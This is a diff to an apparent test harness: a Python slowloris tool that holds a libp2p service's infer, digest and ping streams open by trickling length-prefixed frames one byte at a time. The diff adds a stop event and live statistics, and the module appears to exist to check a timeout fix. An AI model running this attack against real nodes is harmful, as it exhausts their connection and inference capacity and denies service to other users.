@@ -6,7 +6,8 @@ on its own protocols (``/prefixmesh/infer/1.0.0``, ``/prefixmesh/digest/1.0.0``,
 ``/prefixmesh/ping/1.0.0``): each stream announces a large frame with its 4-byte
 big-endian length prefix and then sends one byte every ``gap_s``, for as long as the
 victim keeps the stream open. When the victim cuts a stream (reset, or an answer and
-end of stream) the attacker opens another in its place, until ``duration_s`` is over.
+end of stream) the attacker opens another in its place, until ``duration_s`` is over
+(or ``stop`` is set: the caller has seen what it needed).
 Before the fix a trickle held a stream (and an infer slot) forever: reads had a timeout
 each, frames none. Nothing here imports prefixmesh.
 """
@@ -46,11 +47,15 @@ class Figures:
                 "median_held_s": round(held[len(held) // 2], 2) if held else 0.0}
 
 
+def _going(stop_at: float, stop: trio.Event) -> bool:
+    return time.monotonic() < stop_at and not stop.is_set()
+
+
 async def _one_stream(host, peer_id, protocol: str, announced: int, gap_s: float,
-                      stop_at: float, figures: Figures) -> None:
+                      stop_at: float, stop: trio.Event, figures: Figures) -> None:
     from libp2p.custom_types import TProtocol
 
-    while time.monotonic() < stop_at:
+    while _going(stop_at, stop):
         try:
             with trio.fail_after(10):
                 stream = await host.new_stream(peer_id, [TProtocol(protocol)])
@@ -68,7 +73,7 @@ async def _one_stream(host, peer_id, protocol: str, announced: int, gap_s: float
             await stream.write(payload[:2])  # even the length prefix trickles
             figures.bytes_sent += 2
             pending = payload[2:]
-            while time.monotonic() < stop_at:
+            while _going(stop_at, stop):
                 with trio.move_on_after(gap_s):
                     while True:  # anything the victim says, until it ends the stream
                         await stream.read(65536)
@@ -89,13 +94,19 @@ async def _one_stream(host, peer_id, protocol: str, announced: int, gap_s: float
 
 async def slowloris(victim_addr: str, protocols: list[str], *, identities: int = 1,
                     streams: int = 8, announced: int = 512 * 1024, gap_s: float = 2.0,
-                    duration_s: float = 20.0, started: trio.Event | None = None) -> dict:
-    """Run the attack; returns figures per protocol name (see :data:`PROTOCOLS`)."""
+                    duration_s: float = 20.0, started: trio.Event | None = None,
+                    stop: trio.Event | None = None, live: dict | None = None) -> dict:
+    """Run the attack; returns figures per protocol name (see :data:`PROTOCOLS`).
+    ``stop`` ends it before ``duration_s`` (each stream at its next gap); ``live`` gets
+    the running :class:`Figures` per protocol name."""
     import multiaddr
     from libp2p.peer.peerinfo import info_from_p2p_addr
 
     info = info_from_p2p_addr(multiaddr.Multiaddr(victim_addr))
     figures = {name: Figures() for name in protocols}
+    if live is not None:
+        live.update(figures)
+    stop = stop if stop is not None else trio.Event()
     stop_at = time.monotonic() + duration_s
 
     async def attacker(task_status=trio.TASK_STATUS_IGNORED) -> None:
@@ -108,7 +119,7 @@ async def slowloris(victim_addr: str, protocols: list[str], *, identities: int =
                 for name in protocols:
                     for _ in range(streams):
                         nursery.start_soon(_one_stream, host, info.peer_id, PROTOCOLS[name],
-                                           announced, gap_s, stop_at, figures[name])
+                                           announced, gap_s, stop_at, stop, figures[name])
 
     async with trio.open_nursery() as nursery:
         for _ in range(identities):
